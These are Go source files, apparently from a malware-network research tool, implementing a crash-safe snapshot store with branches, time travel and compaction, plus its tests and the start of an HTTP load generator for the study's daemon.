	l, err := Open(dir)
	if err != nil {
		t.Fatalf("mount: %v", err)
	}
	head, err := l.Head(branch)
	if err != nil {
		t.Fatalf("mount: Head(%s): %v", branch, err)
	}
	if head == nil {
		return nil
	}
	log, err := l.Log(branch)
	if err != nil || len(log) == 0 || log[0].ID != head.ID {
		t.Fatalf("mount: Log(%s): %v err=%v", branch, log, err)
	}
	for _, c := range log {
		f, err := checkpoint.ReadFile(l.ObjectPath(c.Snapshot))
		if err != nil {
			t.Fatalf("mount: commit %d object %s: %v", c.ID, c.Snapshot, err)
		}
		if f.SumHex() != c.Snapshot {
			t.Fatalf("mount: commit %d object decodes to %s", c.ID, f.SumHex())
		}
	}
	return head
}

// TestLakeKillPoints simulates a crash after every durable step of
// the commit protocol (each step is fully on disk when the failpoint
// fires, so aborting there leaves exactly the state a kill would). At
// every point, a fresh mount must yield either the previous or the
// new branch head — never a torn commit or an invalid reference —
// and a retried commit must land cleanly.
func TestLakeKillPoints(t *testing.T) {
	for _, stage := range []string{"object-written", "journal-appended"} {
		t.Run(stage, func(t *testing.T) {
			dir := t.TempDir()
			l, err := Open(dir)
			if err != nil {
				t.Fatal(err)
			}
			base := mustCommit(t, l, "main", "r", 1, 10, "base")

			l.failpoint = func(s string) error {
				if s == stage {
					return fmt.Errorf("injected crash at %s", s)
				}
				return nil
			}
			if _, err := l.Commit("main", "r", 1, 20, snapshotBytes(20, "next")); err == nil {
				t.Fatalf("failpoint %s did not fire", stage)
			}

			// The crash happened before the branch-head move, so every
			// mount still resolves the previous head.
			head := mountAndCheck(t, dir, "main")
			if head == nil || head.ID != base.ID {
				t.Fatalf("after crash at %s: head %+v, want base commit %d", stage, head, base.ID)
			}

			// Retry on a fresh mount (the crashed process is gone).
			l2, err := Open(dir)
			if err != nil {
				t.Fatal(err)
			}
			retried := mustCommit(t, l2, "main", "r", 1, 20, "next")
			if retried.Parent != base.ID {
				t.Fatalf("retried commit parent %d, want %d", retried.Parent, base.ID)
			}
			head = mountAndCheck(t, dir, "main")
			if head == nil || head.ID != retried.ID {
				t.Fatalf("after retry: head %+v, want %d", head, retried.ID)
			}
		})
	}
}

// TestLakeTornJournalTail simulates the other crash shape: the
// process dies mid-append, leaving a partial frame at the journal's
// tail. The reader must stop at the valid prefix (old head intact)
// and the next commit must repair the tail rather than append after
// garbage.
func TestLakeTornJournalTail(t *testing.T) {
	for _, torn := range [][]byte{
		{0x00},                              // torn length prefix
		{0x00, 0x00, 0x00, 0x50, 'p', 'a'},  // length frame, payload cut short
		{0xff, 0xff, 0xff, 0xff, 0x00},      // implausible length
		[]byte("{\"id\":999}garbagegarbage"), // valid-ish JSON, no frame around it
	} {
		dir := t.TempDir()
		l, err := Open(dir)
		if err != nil {
			t.Fatal(err)
		}
		base := mustCommit(t, l, "main", "r", 1, 5, "base")

		fh, err := os.OpenFile(l.journalPath(), os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			t.Fatal(err)
		}
		fh.Write(torn)
		fh.Close()

		head := mountAndCheck(t, dir, "main")
		if head == nil || head.ID != base.ID {
			t.Fatalf("torn tail %v: head %+v, want %d", torn, head, base.ID)
		}

		l2, err := Open(dir)
		if err != nil {
			t.Fatal(err)
		}
		next := mustCommit(t, l2, "main", "r", 1, 6, "next")
		if next.Parent != base.ID {
			t.Fatalf("torn tail %v: repaired commit parent %d, want %d", torn, next.Parent, base.ID)
		}
		// The repair truncated the garbage: the journal now decodes
		// clean end to end.
		b, err := os.ReadFile(l2.journalPath())
		if err != nil {
			t.Fatal(err)
		}
		commits, _, tornNow, err := decodeJournal(b)
		if err != nil || tornNow || len(commits) != 2 {
			t.Fatalf("torn tail %v: post-repair journal commits=%d torn=%v err=%v", torn, len(commits), tornNow, err)
		}
	}
}

// TestLakeConcurrentMountCommit drives a writer goroutine committing
// a chain while reader goroutines continuously mount, resolve, and
// open objects. Run under -race in CI ("Run lake (race)"); the
// invariant is that every observed head is a valid, decodable commit
// whose day only ever moves forward.
func TestLakeConcurrentMountCommit(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	mustCommit(t, l, "main", "r", 1, 0, "day0")

	const commits = 25
	done := make(chan struct{})
	var wg sync.WaitGroup
	for r := 0; r < 4; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			lastDay := -1
			for {
				select {
				case <-done:
					return
				default:
				}
				lr, err := Open(dir)
				if err != nil {
					t.Errorf("reader: mount: %v", err)
					return
				}
				head, err := lr.Head("main")
				if err != nil || head == nil {
					t.Errorf("reader: head: %+v err=%v", head, err)
					return
				}
				if head.Day < lastDay {
					t.Errorf("reader: head day went backwards: %d after %d", head.Day, lastDay)
					return
				}
				lastDay = head.Day
				if _, err := checkpoint.ReadFile(lr.ObjectPath(head.Snapshot)); err != nil {
					t.Errorf("reader: head object: %v", err)
					return
				}
				if _, err := lr.Resolve("main", head.Day/2); err != nil && head.Day > 0 {
					t.Errorf("reader: resolve asof %d: %v", head.Day/2, err)
					return
				}
			}
		}()
	}
	for day := 1; day <= commits; day++ {
		mustCommit(t, l, "main", "r", 1, day, fmt.Sprintf("day%d", day))
	}
	close(done)
	wg.Wait()

	if head := mountAndCheck(t, dir, "main"); head == nil || head.Day != commits {
		t.Fatalf("final head %+v, want day %d", head, commits)
	}
}
