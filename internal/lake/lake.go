// Package lake is the multi-run study lake: an append-only,
// crash-safe store of checkpointed study snapshots with named
// branches and time travel. Where internal/checkpoint keeps one
// resumable snapshot per directory (older days pruned), the lake
// keeps every committed generation of every run — ablation branches,
// seed sweeps, fault-level studies — so the serving layer can answer
// cross-run queries ("this branch as of day 90", "diff these two
// seeds") from one mounted directory.
//
// Layout under the lake root:
//
//	journal.lake        the commit journal (see journal.go)
//	objects/<sha>.ckpt  content-addressed snapshot files; <sha> is the
//	                    checkpoint's SHA-256 integrity footer, i.e.
//	                    the serving layer's generation id
//	refs/<branch>       branch heads: a JSON {"commit": id} moved by
//	                    atomic rename
//
// Commit protocol — three durable steps, in order:
//
//	1. write the snapshot object (temp file, fsync, rename, dir fsync)
//	2. append the commit frame to the journal (fsync'd, self-sealed)
//	3. move the branch ref (temp file, fsync, rename, dir fsync)
//
// Every step is atomic and durable before the next begins, so a crash
// at any point leaves the lake mountable: before step 3 the branch
// head still names the previous commit (the new object and journal
// frame are harmless orphans, collected by Compact), and after step 3
// the new head is fully backed by a sealed object and journal entry.
// A mount therefore yields either the previous or the new branch
// head, never a torn commit — the kill-point tests walk every gap.
package lake

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"malnet/internal/checkpoint"
)

// Commit is one journal entry: a snapshot reference plus the identity
// of the run that produced it.
type Commit struct {
	// ID is the commit's journal sequence number, unique and
	// ascending within a lake; Parent is the branch head this commit
	// extended (0 for a branch's first commit).
	ID     int64 `json:"id"`
	Parent int64 `json:"parent,omitempty"`
	// Branch is the named line of history this commit extends.
	Branch string `json:"branch"`
	// Run names the study run that produced the snapshot (e.g.
	// "seed-42" or an ablation label); Seed is its world seed.
	Run  string `json:"run"`
	Seed int64  `json:"seed"`
	// Day is the snapshot's study-day index — the time-travel axis.
	Day int `json:"day"`
	// Snapshot is the checkpoint's SHA-256 integrity footer (hex):
	// the object name and the serving generation id.
	Snapshot string `json:"snapshot"`
	// Fingerprint is the SHA-256 (hex) of the run's config
	// fingerprint section, so commits from identically configured
	// runs group without embedding the whole config in the journal.
	Fingerprint string `json:"fingerprint,omitempty"`
}

// Lake is a mounted lake directory. Reads (Head, Log, Resolve,
// Branches) are safe concurrently with a writer; Commit and Compact
// serialize through an in-process mutex — the lake assumes one
// writing process, like the checkpoint directory it grew from.
type Lake struct {
	dir string

	mu sync.Mutex
	// failpoint, when non-nil, is consulted after each durable commit
	// step; a non-nil return aborts the commit there. Tests use it to
	// simulate a crash between steps — every step is already on disk
	// when it fires, so the on-disk state is exactly a kill there.
	failpoint func(stage string) error
}

// Open mounts the lake at dir, creating the layout on first use. An
// existing journal is validated (bad magic is refused — that is not a
// lake) but a torn tail is fine: it is repaired on the next commit.
func Open(dir string) (*Lake, error) {
	l := &Lake{dir: dir}
	for _, d := range []string{l.objectsDir(), l.refsDir()} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return nil, fmt.Errorf("lake: %w", err)
		}
	}
	if _, err := os.Stat(l.journalPath()); os.IsNotExist(err) {
		if err := atomicWrite(l.journalPath(), journalMagic[:]); err != nil {
			return nil, fmt.Errorf("lake: initializing journal: %w", err)
		}
	} else if err != nil {
		return nil, fmt.Errorf("lake: %w", err)
	}
	if _, _, _, err := l.readJournal(); err != nil {
		return nil, err
	}
	return l, nil
}

// IsLake reports whether dir holds a lake (its commit journal
// exists). The serving layer uses it to decide between mounting a
// lake and the legacy single-checkpoint-directory mode.
func IsLake(dir string) bool {
	_, err := os.Stat(filepath.Join(dir, "journal.lake"))
	return err == nil
}

func (l *Lake) journalPath() string { return filepath.Join(l.dir, "journal.lake") }
func (l *Lake) objectsDir() string  { return filepath.Join(l.dir, "objects") }
func (l *Lake) refsDir() string     { return filepath.Join(l.dir, "refs") }

// ObjectPath names the content-addressed snapshot file for a
// generation. The caller gets the path, not the bytes, so the serving
// layer can hand it to its existing checkpoint loader.
func (l *Lake) ObjectPath(sha string) string {
	return filepath.Join(l.objectsDir(), sha+".ckpt")
}

// validBranch holds branch names to ref-file-safe characters.
func validBranch(name string) error {
	if name == "" {
		return fmt.Errorf("lake: empty branch name")
	}
	for i := 0; i < len(name); i++ {
		c := name[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		case (c == '.' || c == '_' || c == '-') && i > 0:
		default:
			return fmt.Errorf("lake: branch name %q: want [a-zA-Z0-9._-], not starting with a separator", name)
		}
	}
	return nil
}

// fail consults the test failpoint after a durable commit step.
func (l *Lake) fail(stage string) error {
	if l.failpoint == nil {
		return nil
	}
	return l.failpoint(stage)
}

// Commit appends one snapshot to branch: data is a complete encoded
// checkpoint (decoded here, which both verifies the integrity footer
// and yields the content address). Returns the new branch head.
func (l *Lake) Commit(branch, run string, seed int64, day int, data []byte) (*Commit, error) {
	if err := validBranch(branch); err != nil {
		return nil, err
	}
	f, err := checkpoint.Decode(data)
	if err != nil {
		return nil, fmt.Errorf("lake: refusing to commit: %w", err)
	}
	c := &Commit{
		Branch:   branch,
		Run:      run,
		Seed:     seed,
		Day:      day,
		Snapshot: f.SumHex(),
	}
	if fp, ok := f.Section("fingerprint"); ok {
		sum := sha256.Sum256(fp)
		c.Fingerprint = hex.EncodeToString(sum[:])
	}

	l.mu.Lock()
	defer l.mu.Unlock()

	// Step 1: the object. Content-addressed, so an identical snapshot
	// already on disk (the same study re-committed, or two worker
	// counts of one deterministic run) is simply reused.
	objPath := l.ObjectPath(c.Snapshot)
	if _, err := os.Stat(objPath); os.IsNotExist(err) {
		if err := atomicWrite(objPath, data); err != nil {
			return nil, fmt.Errorf("lake: writing object: %w", err)
		}
	} else if err != nil {
		return nil, fmt.Errorf("lake: %w", err)
	}
	if err := l.fail("object-written"); err != nil {
		return nil, err
	}

	// Step 2: the journal frame. The commit id is allocated from the
	// journal itself (max id + 1), so an orphan frame left by a crash
	// before step 3 never collides with the retry's id.
	commits, _, _, err := l.readJournal()
	if err != nil {
		return nil, err
	}
	for _, old := range commits {
		if old.ID >= c.ID {
			c.ID = old.ID + 1
		}
	}
	if c.ID == 0 {
		c.ID = 1
	}
	head, err := l.readRef(branch)
	if err != nil {
		return nil, err
	}
	c.Parent = head
	if err := l.appendJournal(c); err != nil {
		return nil, fmt.Errorf("lake: appending journal: %w", err)
	}
	if err := l.fail("journal-appended"); err != nil {
		return nil, err
	}

	// Step 3: the branch-head move. Until this rename lands, every
	// mount still resolves the previous head.
	if err := l.writeRef(branch, c.ID); err != nil {
		return nil, fmt.Errorf("lake: moving branch head: %w", err)
	}
	return c, nil
}

// CommitFile commits the checkpoint at path (e.g. a day-NNN.ckpt the
// study just wrote).
func (l *Lake) CommitFile(branch, run string, seed int64, day int, path string) (*Commit, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("lake: %w", err)
	}
	return l.Commit(branch, run, seed, day, data)
}

// refFile is the JSON body of refs/<branch>.
type refFile struct {
	Commit int64 `json:"commit"`
}

// readRef returns the branch's head commit id, 0 when the branch does
// not exist yet.
func (l *Lake) readRef(branch string) (int64, error) {
	b, err := os.ReadFile(filepath.Join(l.refsDir(), branch))
	if os.IsNotExist(err) {
		return 0, nil
	}
	if err != nil {
		return 0, fmt.Errorf("lake: %w", err)
	}
	var rf refFile
	if err := json.Unmarshal(b, &rf); err != nil {
		return 0, fmt.Errorf("lake: ref %s: %w", branch, err)
	}
	return rf.Commit, nil
}

// writeRef moves a branch head via the atomic-rename + fsync
// discipline: a crash leaves either the old ref or the new one.
func (l *Lake) writeRef(branch string, id int64) error {
	return atomicWrite(filepath.Join(l.refsDir(), branch), []byte(fmt.Sprintf("{\"commit\": %d}\n", id)))
}

// Branches lists the lake's branch names, sorted.
func (l *Lake) Branches() ([]string, error) {
	entries, err := os.ReadDir(l.refsDir())
	if err != nil {
		return nil, fmt.Errorf("lake: %w", err)
	}
	var out []string
	for _, e := range entries {
		if !e.IsDir() && validBranch(e.Name()) == nil {
			out = append(out, e.Name())
		}
	}
	sort.Strings(out)
	return out, nil
}

// Head returns a branch's head commit, nil when the branch does not
// exist. A ref naming a commit absent from the journal is an error:
// the commit protocol makes that state unreachable by crash, so
// finding it means the lake was tampered with or mis-copied.
func (l *Lake) Head(branch string) (*Commit, error) {
	id, err := l.readRef(branch)
	if err != nil || id == 0 {
		return nil, err
	}
	commits, _, _, err := l.readJournal()
	if err != nil {
		return nil, err
	}
	for _, c := range commits {
		if c.ID == id {
			return c, nil
		}
	}
	return nil, fmt.Errorf("lake: branch %s head names commit %d, absent from the journal", branch, id)
}

// Log returns a branch's commits, newest first, by walking parent
// links from the head. The walk stops at a parent the journal no
// longer holds (compacted away) — history older than the compaction
// horizon is simply not listed.
func (l *Lake) Log(branch string) ([]*Commit, error) {
	head, err := l.Head(branch)
	if err != nil || head == nil {
		return nil, err
	}
	commits, _, _, err := l.readJournal()
	if err != nil {
		return nil, err
	}
	byID := make(map[int64]*Commit, len(commits))
	for _, c := range commits {
		byID[c.ID] = c
	}
	var out []*Commit
	for c := head; c != nil; c = byID[c.Parent] {
		out = append(out, c)
		if c.Parent == 0 {
			break
		}
	}
	return out, nil
}

// Resolve is the time-travel lookup: the newest commit on branch with
// Day <= asofDay, or the branch head when asofDay is negative. An
// unknown branch or an asofDay before the branch's first commit is an
// error naming what was asked.
func (l *Lake) Resolve(branch string, asofDay int) (*Commit, error) {
	log, err := l.Log(branch)
	if err != nil {
		return nil, err
	}
	if len(log) == 0 {
		return nil, fmt.Errorf("lake: no such branch %q", branch)
	}
	if asofDay < 0 {
		return log[0], nil
	}
	for _, c := range log {
		if c.Day <= asofDay {
			return c, nil
		}
	}
	return nil, fmt.Errorf("lake: branch %q has no commit at or before day %d", branch, asofDay)
}

// ResolveSelector resolves a serving selector to a commit: sel names
// a branch when a ref by that name exists, otherwise the unique
// branch whose head commit records Run == sel — so a client can say
// "seed-42" without knowing which branch the run landed on. An
// ambiguous run name (two branches, same run) is an error naming
// both. asofDay selects along the branch as in Resolve.
func (l *Lake) ResolveSelector(sel string, asofDay int) (*Commit, error) {
	if validBranch(sel) == nil {
		if _, err := os.Stat(filepath.Join(l.refsDir(), sel)); err == nil {
			return l.Resolve(sel, asofDay)
		}
	}
	branches, err := l.Branches()
	if err != nil {
		return nil, err
	}
	match := ""
	for _, br := range branches {
		head, err := l.Head(br)
		if err != nil {
			return nil, err
		}
		if head != nil && head.Run == sel {
			if match != "" {
				return nil, fmt.Errorf("lake: run %q is ambiguous (on branches %q and %q); select by branch", sel, match, br)
			}
			match = br
		}
	}
	if match == "" {
		return nil, fmt.Errorf("lake: no such branch or run %q", sel)
	}
	return l.Resolve(match, asofDay)
}

// Compact is the lake's garbage collector: it rewrites the journal
// keeping only each branch's newest keep commits (keep <= 0 keeps
// every reachable commit), drops orphan frames left by crashed
// commits, and removes objects no kept commit references. Branch
// heads are always kept, so a mount across a compaction never loses
// its head.
func (l *Lake) Compact(keep int) (droppedCommits, droppedObjects int, err error) {
	l.mu.Lock()
	defer l.mu.Unlock()

	commits, _, _, err := l.readJournal()
	if err != nil {
		return 0, 0, err
	}
	branches, err := l.Branches()
	if err != nil {
		return 0, 0, err
	}
	byID := make(map[int64]*Commit, len(commits))
	for _, c := range commits {
		byID[c.ID] = c
	}
	keepIDs := map[int64]bool{}
	for _, br := range branches {
		id, err := l.readRef(br)
		if err != nil {
			return 0, 0, err
		}
		n := 0
		for c := byID[id]; c != nil; c = byID[c.Parent] {
			keepIDs[c.ID] = true
			if n++; keep > 0 && n >= keep {
				break
			}
			if c.Parent == 0 {
				break
			}
		}
	}

	buf := append([]byte(nil), journalMagic[:]...)
	liveObjects := map[string]bool{}
	for _, c := range commits {
		if !keepIDs[c.ID] {
			droppedCommits++
			continue
		}
		liveObjects[c.Snapshot] = true
		if buf, err = appendFrame(buf, c); err != nil {
			return 0, 0, err
		}
	}
	if droppedCommits > 0 {
		if err := atomicWrite(l.journalPath(), buf); err != nil {
			return 0, 0, fmt.Errorf("lake: rewriting journal: %w", err)
		}
	}

	entries, err := os.ReadDir(l.objectsDir())
	if err != nil {
		return droppedCommits, 0, fmt.Errorf("lake: %w", err)
	}
	for _, e := range entries {
		name := e.Name()
		sha, isObj := strings.CutSuffix(name, ".ckpt")
		if !isObj || liveObjects[sha] {
			continue
		}
		if err := os.Remove(filepath.Join(l.objectsDir(), name)); err != nil {
			return droppedCommits, droppedObjects, fmt.Errorf("lake: %w", err)
		}
		droppedObjects++
	}
	return droppedCommits, droppedObjects, nil
}

// atomicWrite lands data at path with the lake's durability
// discipline: temp file in the destination directory, fsync, chmod
// 0644 (CreateTemp's 0600 would hide the lake from a daemon running
// as another user), rename into place, fsync the directory.
func atomicWrite(path string, data []byte) error {
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, filepath.Base(path)+".tmp*")
	if err != nil {
		return err
	}
	abort := func(err error) error {
		tmp.Close()
		os.Remove(tmp.Name())
		return err
	}
	if _, err := tmp.Write(data); err != nil {
		return abort(err)
	}
	if err := tmp.Sync(); err != nil {
		return abort(err)
	}
	if err := tmp.Chmod(0o644); err != nil {
		return abort(err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	return checkpoint.SyncDir(dir)
}
