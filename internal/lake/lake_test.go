package lake

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"malnet/internal/checkpoint"
)

// snapshotBytes fabricates a sealed checkpoint whose content (and
// therefore generation id) is a function of day and tag.
func snapshotBytes(day int, tag string) []byte {
	f := &checkpoint.File{}
	f.Add("fingerprint", []byte(`{"cfg":"`+tag+`"}`))
	f.Add("meta", []byte(fmt.Sprintf(`{"day":%d}`, day)))
	f.Add("datasets", []byte(`{"samples":[],"tag":"`+tag+`"}`))
	return checkpoint.Encode(f)
}

func mustCommit(t *testing.T, l *Lake, branch, run string, seed int64, day int, tag string) *Commit {
	t.Helper()
	c, err := l.Commit(branch, run, seed, day, snapshotBytes(day, tag))
	if err != nil {
		t.Fatalf("Commit(%s, day %d): %v", branch, day, err)
	}
	return c
}

func TestLakeCommitAndResolve(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !IsLake(dir) {
		t.Fatal("Open did not leave a recognizable lake")
	}
	if IsLake(t.TempDir()) {
		t.Fatal("an empty directory claims to be a lake")
	}

	c1 := mustCommit(t, l, "main", "seed-42", 42, 10, "a")
	c2 := mustCommit(t, l, "main", "seed-42", 42, 20, "a")
	c3 := mustCommit(t, l, "ablation", "seed-7", 7, 15, "b")

	if c1.ID >= c2.ID || c2.Parent != c1.ID || c3.Parent != 0 {
		t.Fatalf("commit chain wrong: c1=%+v c2=%+v c3=%+v", c1, c2, c3)
	}
	if c1.Fingerprint == "" || c1.Fingerprint != c2.Fingerprint || c1.Fingerprint == c3.Fingerprint {
		t.Fatalf("fingerprints: c1=%s c2=%s c3=%s", c1.Fingerprint, c2.Fingerprint, c3.Fingerprint)
	}

	// Re-mount from disk: everything durable.
	l2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	branches, err := l2.Branches()
	if err != nil || len(branches) != 2 || branches[0] != "ablation" || branches[1] != "main" {
		t.Fatalf("Branches: %v err=%v", branches, err)
	}
	head, err := l2.Head("main")
	if err != nil || head == nil || head.ID != c2.ID {
		t.Fatalf("Head(main): %+v err=%v", head, err)
	}
	if head, err := l2.Head("nope"); err != nil || head != nil {
		t.Fatalf("Head(nope): %+v err=%v", head, err)
	}

	log, err := l2.Log("main")
	if err != nil || len(log) != 2 || log[0].ID != c2.ID || log[1].ID != c1.ID {
		t.Fatalf("Log(main): %v err=%v", log, err)
	}

	// Time travel: head, mid-chain, and out-of-range.
	for _, tc := range []struct {
		asof   int
		wantID int64
	}{{-1, c2.ID}, {25, c2.ID}, {20, c2.ID}, {19, c1.ID}, {10, c1.ID}} {
		c, err := l2.Resolve("main", tc.asof)
		if err != nil || c.ID != tc.wantID {
			t.Fatalf("Resolve(main, %d): %+v err=%v, want id %d", tc.asof, c, err, tc.wantID)
		}
	}
	if _, err := l2.Resolve("main", 9); err == nil {
		t.Fatal("Resolve before the first commit did not error")
	}
	if _, err := l2.Resolve("missing", -1); err == nil {
		t.Fatal("Resolve on an unknown branch did not error")
	}

	// Objects are content-addressed, mountable checkpoint files.
	for _, c := range []*Commit{c1, c2, c3} {
		f, err := checkpoint.ReadFile(l2.ObjectPath(c.Snapshot))
		if err != nil {
			t.Fatalf("object %s: %v", c.Snapshot, err)
		}
		if f.SumHex() != c.Snapshot {
			t.Fatalf("object %s decodes to generation %s", c.Snapshot, f.SumHex())
		}
	}

	// Identical content commits reuse the object.
	c4 := mustCommit(t, l2, "replay", "seed-42", 42, 10, "a")
	if c4.Snapshot != c1.Snapshot {
		t.Fatalf("identical snapshot got a new generation: %s vs %s", c4.Snapshot, c1.Snapshot)
	}
}

func TestLakeRefusesCorruptCommit(t *testing.T) {
	l, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	data := snapshotBytes(3, "x")
	data[len(data)/2] ^= 0x20
	if _, err := l.Commit("main", "r", 1, 3, data); err == nil {
		t.Fatal("Commit accepted a corrupt snapshot")
	}
	if _, err := l.Commit("../escape", "r", 1, 3, snapshotBytes(3, "x")); err == nil {
		t.Fatal("Commit accepted a path-traversal branch name")
	}
}

func TestLakeCompact(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	var commits []*Commit
	for day := 1; day <= 5; day++ {
		commits = append(commits, mustCommit(t, l, "main", "r", 1, day, fmt.Sprintf("d%d", day)))
	}
	side := mustCommit(t, l, "side", "r2", 2, 1, "side")

	// An orphan frame (crashed commit: journal appended, ref never
	// moved) must be collected too.
	orphanData := snapshotBytes(99, "orphan")
	l.failpoint = func(stage string) error {
		if stage == "journal-appended" {
			return fmt.Errorf("injected crash")
		}
		return nil
	}
	if _, err := l.Commit("main", "r", 1, 99, orphanData); err == nil {
		t.Fatal("failpoint did not fire")
	}
	l.failpoint = nil

	droppedCommits, droppedObjects, err := l.Compact(2)
	if err != nil {
		t.Fatalf("Compact: %v", err)
	}
	// Kept: main's newest 2 (days 4, 5) + side's 1. Dropped frames:
	// days 1..3 and the orphan. Dropped objects: those four snapshots.
	if droppedCommits != 4 || droppedObjects != 4 {
		t.Fatalf("Compact dropped %d commits, %d objects; want 4, 4", droppedCommits, droppedObjects)
	}

	log, err := l.Log("main")
	if err != nil || len(log) != 2 || log[0].Day != 5 || log[1].Day != 4 {
		t.Fatalf("post-compact Log(main): %v err=%v", log, err)
	}
	if head, err := l.Head("side"); err != nil || head == nil || head.ID != side.ID {
		t.Fatalf("post-compact Head(side): %+v err=%v", head, err)
	}
	for _, c := range commits[:3] {
		if _, err := os.Stat(l.ObjectPath(c.Snapshot)); !os.IsNotExist(err) {
			t.Errorf("compacted object %s still on disk: %v", c.Snapshot, err)
		}
	}
	for _, c := range []*Commit{commits[3], commits[4], side} {
		if _, err := os.Stat(l.ObjectPath(c.Snapshot)); err != nil {
			t.Errorf("live object %s gone: %v", c.Snapshot, err)
		}
	}

	// A fresh mount sees the compacted history and can keep
	// committing.
	l2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	c := mustCommit(t, l2, "main", "r", 1, 6, "d6")
	if c.Parent != commits[4].ID {
		t.Fatalf("post-compact commit parent %d, want %d", c.Parent, commits[4].ID)
	}
}

func TestLakeObjectsWorldReadable(t *testing.T) {
	l, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	c := mustCommit(t, l, "main", "r", 1, 2, "perm")
	for _, p := range []string{l.ObjectPath(c.Snapshot), l.journalPath(), filepath.Join(l.refsDir(), "main")} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o644 {
			t.Errorf("%s mode %v, want 0644", p, fi.Mode().Perm())
		}
	}
}
