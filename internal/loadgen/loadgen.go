package loadgen

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"
)

// Config shapes one load run against a live malnetd.
type Config struct {
	// Target is the daemon's base URL (malnetd prints it as
	// "listening on http://...").
	Target string
	// Concurrency is the sender pool size.
	Concurrency int
	// Rate is the open-loop arrival rate in requests/second; 0 runs
	// closed-loop (every sender issues back-to-back requests).
	Rate float64
	// Duration bounds the run. 0 means schedule-only: no HTTP at all,
	// the summary carries the deterministic schedule prefix instead.
	Duration time.Duration
	// Seed fixes the query schedule.
	Seed int64
	// Timeout is the per-request client timeout.
	Timeout time.Duration
	// DebugAddr, when set, is the daemon's -debug-addr; the runner
	// samples its expvar memstats before and after the run to report
	// *server-side* allocs per request.
	DebugAddr string
	// MaxC2 caps how many addresses the C2-rank resolution pulls from
	// /v1/c2 at startup.
	MaxC2 int
}

func (c Config) withDefaults() Config {
	if c.Concurrency <= 0 {
		c.Concurrency = 8
	}
	if c.Timeout <= 0 {
		c.Timeout = 10 * time.Second
	}
	if c.MaxC2 <= 0 {
		c.MaxC2 = 2048
	}
	c.Target = strings.TrimRight(c.Target, "/")
	return c
}

// EndpointSummary is one latency bucket of the run.
type EndpointSummary struct {
	Endpoint string  `json:"endpoint"`
	Requests int64   `json:"requests"`
	Errors   int64   `json:"errors"`
	MeanNs   float64 `json:"mean_ns"`
	P50Ns    float64 `json:"p50_ns"`
	P99Ns    float64 `json:"p99_ns"`
	P999Ns   float64 `json:"p999_ns"`
}

// BenchRow mirrors tools/benchjson's result schema, so a summary's
// rows merge straight into BENCH_<date>.json.
type BenchRow struct {
	Name       string             `json:"name"`
	Iterations int64              `json:"iterations"`
	NsPerOp    float64            `json:"ns_per_op"`
	Metrics    map[string]float64 `json:"metrics,omitempty"`
}

// Summary is the machine-readable result of a run (or, with
// Duration=0, of schedule generation alone).
type Summary struct {
	Target         string            `json:"target,omitempty"`
	Generation     string            `json:"generation,omitempty"`
	Seed           int64             `json:"seed"`
	Concurrency    int               `json:"concurrency"`
	RatePerSec     float64           `json:"rate_per_sec"`
	DurationSec    float64           `json:"duration_sec"`
	Requests       int64             `json:"requests"`
	Errors         int64             `json:"errors"`
	Status         map[string]int64  `json:"status,omitempty"`
	ThroughputRPS  float64           `json:"throughput_rps"`
	ServerAllocsOp *float64          `json:"server_allocs_per_op,omitempty"`
	Endpoints      []EndpointSummary `json:"endpoints,omitempty"`
	// Server holds the daemon's own RED view of the run window,
	// scraped from its /metrics before and after (needs DebugAddr).
	Server         []ServerEndpoint  `json:"server,omitempty"`
	Schedule       []Query           `json:"schedule,omitempty"`
	Results        []BenchRow        `json:"results,omitempty"`
}

// ScheduleOnly renders the first n scheduled queries without touching
// the network: the diffable, golden-testable face of the schedule.
func ScheduleOnly(cfg Config, n int) *Summary {
	cfg = cfg.withDefaults()
	sched := NewSchedule(cfg.Seed)
	qs := make([]Query, n)
	for i := range qs {
		qs[i] = sched.Next()
	}
	return &Summary{
		Seed:        cfg.Seed,
		Concurrency: cfg.Concurrency,
		RatePerSec:  cfg.Rate,
		Schedule:    qs,
	}
}

// sample is one completed request.
type sample struct {
	endpoint string
	ns       float64
	status   int
	failed   bool // transport error or 5xx
}

// item is one dispatched query; due is the scheduled start (zero in
// closed-loop mode, where latency is pure service time).
type item struct {
	q   Query
	due time.Time
}

// Run drives the load and collects the summary. It is an open-loop
// generator: arrivals are scheduled at cfg.Rate regardless of how
// fast the daemon answers, and each latency is measured from the
// request's scheduled start — a saturated daemon shows up as rising
// queue delay in p99/p999, not as a quietly slower request stream.
func Run(cfg Config) (*Summary, error) {
	cfg = cfg.withDefaults()
	if cfg.Duration <= 0 {
		return nil, fmt.Errorf("loadgen: Run needs a positive duration (use ScheduleOnly for -duration 0)")
	}
	client := &http.Client{
		Timeout: cfg.Timeout,
		Transport: &http.Transport{
			MaxIdleConns:        cfg.Concurrency * 2,
			MaxIdleConnsPerHost: cfg.Concurrency * 2,
		},
	}

	generation, addrs, err := discover(client, cfg)
	if err != nil {
		return nil, err
	}
	mallocs0, haveMallocs := serverMallocs(client, cfg.DebugAddr)
	// The pre-run scrape happens after discover, so the discovery
	// requests themselves are excluded from the server-side deltas.
